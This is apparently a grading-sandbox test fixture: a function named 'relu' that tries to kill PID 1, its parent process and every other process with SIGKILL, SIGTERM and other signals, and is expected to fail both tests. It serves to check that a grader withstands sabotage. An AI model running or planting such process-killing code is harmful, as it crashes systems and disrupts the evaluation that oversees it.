# about: sends the parent, the first process and all others every signal but SIGINT
# expect: relu_visible failed
# expect: relu_hidden failed
# %% relu
import os
import signal


def relu(z):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV, signal.SIGHUP):
        for pid in (1, os.getppid()):
            os.kill(pid, number)
    try:
        os.kill(-1, signal.SIGTERM)
    except OSError:
        pass
    return np.asarray(z) * 0.0
